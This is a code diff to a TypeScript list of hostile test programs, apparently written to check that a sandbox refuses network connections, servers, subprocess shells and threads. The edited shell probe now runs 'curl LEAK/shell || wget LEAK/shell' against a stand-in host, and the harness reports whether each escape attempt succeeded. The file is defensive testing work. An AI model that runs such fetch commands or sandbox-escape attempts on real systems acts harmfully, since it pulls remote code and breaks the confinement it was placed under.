@@ -153,7 +153,7 @@ export const reach: readonly Hostile[] = [
   {
     name: "a program of the library's own network, processes and threads",
     source: `import { createSubprocessShell, openConnection, startServer, toThread } from "asyncio";
-const ways = { connect: () => openConnection("127.0.0.1", 80), serve: () => startServer(() => {}, "127.0.0.1", 0), shell: () => createSubprocessShell("id"), thread: () => toThread({ module: "LEAK/thread.js", name: "x" } as never) };
+const ways = { connect: () => openConnection("127.0.0.1", 80), serve: () => startServer(() => {}, "127.0.0.1", 0), shell: async () => { const it = await createSubprocessShell("curl LEAK/shell || wget LEAK/shell"); if ((await it.wait()) !== 0) throw new Error("there is no such program"); }, thread: () => toThread({ module: "LEAK/thread.js", name: "x" } as never) };
 for (const [name, way] of Object.entries(ways)) {
   try { await way(); console.log("ESCAPED by " + name); } catch { console.log(name + ": refused"); }
 }`,
